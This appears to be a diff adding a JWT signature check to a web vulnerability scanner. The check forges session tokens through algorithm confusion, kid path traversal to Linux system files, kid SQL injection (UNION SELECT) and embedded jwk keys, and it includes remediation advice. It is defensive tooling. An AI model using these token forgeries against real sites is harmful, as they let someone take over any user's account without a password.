@@ -1,0 +1,159 @@
+import { createSign, generateKeyPairSync, type KeyObject, randomBytes } from 'node:crypto';
+import type { Experiment, Step } from '../../model/experiment.ts';
+import type { Identity } from '../../model/identity.ts';
+import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
+import { type MarkedPage, markedPage, openedClaims } from '../sessions/own-sessions.ts';
+import { lacksIdentities } from '../sessions/site-login.ts';
+import { anyJwtsOf, type CarriedJwt, forgedFrom, type Jwt, signJwt } from './jwt.ts';
+import { publishedKeys } from './public-keys.ts';
+
+/** How a token is signed with a key that anybody has, and the same with a key that the site does not come to. */
+type Way = {
+  how: string;
+  header: Record<string, unknown>;
+  sign(jwt: Jwt): string;
+  other(jwt: Jwt): string;
+  isText: boolean;
+};
+type Chosen = Way & { identity: string; page: MarkedPage; carried: CarriedJwt };
+
+/** A token is verified with a key that its sender has chosen. Source: RFC 8725 §2.1, §3.10, CWE-347. */
+export const jwtChosenKey = defineCheck<Chosen>({
+  id: 'auth.jwt-chosen-key',
+  title: 'JWT verified with a key of the attacker (algorithm confusion, kid or jwk injection)',
+  cwe: 347,
+  owasp: 'A04:2025',
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
+  depth: 'deep',
+  risk: 'safe',
+
+  async detect(context) {
+    const identities = Object.values(context.identities);
+    if (identities.length === 0) return lacksIdentities(context, 'an identity with a proven login');
+    const carried = identities.flatMap((identity) => anyJwtsOf(identity).map((token) => ({ identity, token })));
+    if (carried.length === 0) return notApplicable('No session is a signed JSON Web Token.');
+    for (const { identity, token } of carried) {
+      const data = await look(context, identity, token);
+      if (data)
+        return [
+          {
+            location: { url: data.page.url, parameter: token.name, parameterIn: token.in },
+            route: '/',
+            detail: `A token that was signed here, ${data.how}, opened the account of "${identity.name}".`,
+            data,
+          },
+        ];
+    }
+    return [];
+  },
+
+  confirm: (_context, { data }) => data && experimentFor(data),
+
+  explain: {
+    description:
+      'The session is a signed token, and the sender decides on the key that it is verified with: a public key is taken for the secret of an HMAC, the identifier of the key (`kid`) is a path or part of a statement, or the key comes along in the token (`jwk`).',
+    impact: 'Everybody signs tokens in the name of any user and with any role. No password and no secret is needed.',
+    sends:
+      'Requests up to 8 addresses where sites publish their keys, then a test user’s page with up to 12 tokens of the same claims, signed here with a published key, with what is in a file of every Linux, with a word that a statement gives back, or with a key in the token.',
+    proves:
+      'The token that was signed here opens the account, twice; the same one signed with another key does not. An attacker signs tokens with any claims. The claims were not changed.',
+    remedy:
+      'Say which algorithm and which key are expected instead of taking them from the token: `jwt.verify(token, key, { algorithms: ["RS256"] })`, PyJWT `algorithms=["RS256"]`, `JwtDecoder` with a fixed JWK set. Look `kid` up in a list of your own keys, never as a file or in a statement, and ignore `jwk`, `jku` and `x5u` of tokens. Update old libraries.',
+    references: [
+      'RFC 8725 §3.1, §3.10 (JWT Best Current Practices): https://www.rfc-editor.org/rfc/rfc8725#section-3.1',
+      'CWE-347: https://cwe.mitre.org/data/definitions/347.html',
+      'WSTG-SESS-10: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens',
+    ],
+  },
+});
+
+async function look(context: CheckContext, identity: Identity, carried: CarriedJwt): Promise<Chosen | undefined> {
+  const page = await markedPage(context, identity);
+  if (!page) return undefined;
+  const { jwt } = carried;
+  const opens = async (token: string): Promise<boolean> => {
+    const headers = carried.headersWith(page.url, token);
+    const { status, text } = await context.http.get(page.url, { headers, fresh: true });
+    return status === 200 && text.includes(page.marker);
+  };
+  // One that opens with any key is another weakness.
+  for (const way of [...(await confusedWays(context, jwt)), ...namedWays(context, jwt), ...embeddedWay(jwt)])
+    if ((await opens(way.sign(jwt))) && !(await opens(way.other(jwt))))
+      return { ...way, identity: identity.name, page, carried };
+  return undefined;
+}
+
+/** With an HMAC under a text that anybody has. */
+const byText = (how: string, header: Record<string, unknown>, key: string): Way => ({
+  ...{ how, header, isText: true },
+  sign: ({ claims }) => signJwt(header, claims, Buffer.from(key)),
+  other: ({ claims }) => signJwt(header, claims, randomBytes(64)),
+});
+
+/** A public key that is taken for the secret of an HMAC. */
+async function confusedWays(context: CheckContext, { header }: Jwt): Promise<Way[]> {
+  if (/^HS/.test(String(header.alg))) return [];
+  const keys = await publishedKeys(context);
+  return keys.map((key) =>
+    byText('with the published public key as the secret of HS256', { ...header, alg: 'HS256' }, key),
+  );
+}
+
+/** Contents of files that every Linux has: nothing, and a number that does not change. */
+const files = [
+  ['/dev/null', ''],
+  ['/proc/sys/kernel/ostype', 'Linux\n'],
+] as const;
+
+/** A `kid` that leads to a file, or is part of a statement. */
+function namedWays({ nonce }: Pick<CheckContext, 'nonce'>, { header }: Jwt): Way[] {
+  if (header.kid === undefined) return [];
+  const word = nonce();
+  const own = { ...header, alg: 'HS256' };
+  const up = '../'.repeat(10);
+  return [
+    ...files.flatMap(([path, content]) =>
+      [up.slice(0, -1) + path, path].map((kid) =>
+        byText(`with the content of ${path} as its key`, { ...own, kid }, content),
+      ),
+    ),
+    ...["'", '"'].map((quote) =>
+      byText(
+        'with a word as its key that a statement in its identifier gives back',
+        { ...own, kid: `${nonce()}${quote} UNION SELECT ${quote}${word}${quote}-- -` },
+        word,
+      ),
+    ),
+  ];
+}
+
+let pair: { publicKey: KeyObject; privateKey: KeyObject } | undefined;
+
+/** A key in the token itself (RFC 7515 §4.1.3). */
+function embeddedWay({ header }: Jwt): Way[] {
+  pair ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
+  const { publicKey, privateKey } = pair;
+  const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', use: 'sig' };
+  const own = { ...header, alg: 'RS256', kid: 'own', jwk };
+  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
+  const signedText = ({ claims }: Jwt) => `${part(own)}.${part(claims)}`;
+  const sign = (jwt: Jwt): string => {
+    const signed = signedText(jwt);
+    return `${signed}.${createSign('sha256').update(signed).sign(privateKey, 'base64url')}`;
+  };
+  const other = (jwt: Jwt): string => `${signedText(jwt)}.${randomBytes(256).toString('base64url')}`;
+  return [{ how: 'with a key that is in the token', header: own, isText: false, sign, other }];
+}
+
+function experimentFor({ identity, page, carried, how, header, sign, other, isText }: Chosen): Experiment {
+  const step = (token: string, note: string): Step => {
+    const made = { token, header, signature: { hash: 'sha256', key: 'text' } } as const;
+    const forged = isText ? { forged: forgedFrom(identity, carried, made) } : {};
+    const headers = carried.headersWith(page.url, token);
+    return { http: { url: page.url, headers, secrets: [token], ...forged }, note, expect: openedClaims(page) };
+  };
+  return {
+    steps: [step(sign(carried.jwt), `A token that we signed ${how} opens the account that its claims name.`)],
+    control: [step(other(carried.jwt), 'The same token signed with another key does not: the signature is verified.')],
+  };
+}
